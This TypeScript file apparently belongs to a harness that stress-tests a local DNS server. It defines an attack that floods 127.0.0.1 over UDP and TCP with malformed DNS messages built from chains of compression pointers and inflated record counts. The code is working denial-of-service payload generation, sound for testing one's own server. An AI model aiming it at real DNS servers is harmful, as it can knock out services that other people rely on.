import { createSocket } from 'node:dgram';
import type { Attack } from './attack.ts';
import { addressOf, openRaw } from './raw-connection.ts';

const HEADER_BYTES = 12;
const MEGABIT_BYTES = 125_000;
const INTERVAL_MS = 10;
const TCP_CONNECTIONS = 20;

/** A message whose last name is a chain of compression pointers through all of it, with so many records in its header. */
function chainOf(bytes: number, records: number): Buffer {
  const message = Buffer.alloc(bytes);
  message.writeUInt16BE(1, 4);
  message.writeUInt16BE(records, 10);
  for (let at = HEADER_BYTES + 2; at + 2 <= bytes; at += 2)
    message.writeUInt16BE(0xc000 | Math.min(at - 2, 0x3fff), at);
  return message;
}

/** A megabit a second of datagrams of compression pointers, small and as large as there are, and the same over TCP. */
export const dnsPointers: Attack = {
  name: 'DNS pointers',
  start: ({ dnsPort = 0 }) => {
    const datagrams = [
      chainOf(65_000, 1),
      chainOf(1_232, 1),
      chainOf(1_232, 11),
      chainOf(1_232, 60_000),
      chainOf(512, 3),
    ];
    const sockets = Array.from({ length: 20 }, (_, index) => {
      const socket = createSocket('udp4').on('error', () => {});
      // Each sender has a limit of its own.
      socket.bind(0, addressOf(index).localAddress);
      return socket;
    });
    const started = performance.now();
    let [sent, bytes] = [0, 0];
    const timer = setInterval(() => {
      const due = ((performance.now() - started) / 1_000) * MEGABIT_BYTES;
      while (bytes < due) {
        const datagram = datagrams[sent % datagrams.length];
        if (!datagram) return;
        sockets[sent % sockets.length]?.send(datagram, dnsPort, '127.0.0.1', () => {});
        bytes += datagram.length;
        sent += 1;
      }
    }, INTERVAL_MS);
    const request = chainOf(4_000, 11);
    const length = Buffer.of(request.length >> 8, request.length & 0xff);
    const calls = setInterval(() => {
      openRaw(dnsPort)
        .resume()
        .end(Buffer.concat([length, request]));
    }, 1_000 / TCP_CONNECTIONS);
    return async () => {
      clearInterval(timer);
      clearInterval(calls);
      for (const socket of sockets) socket.close();
    };
  },
};
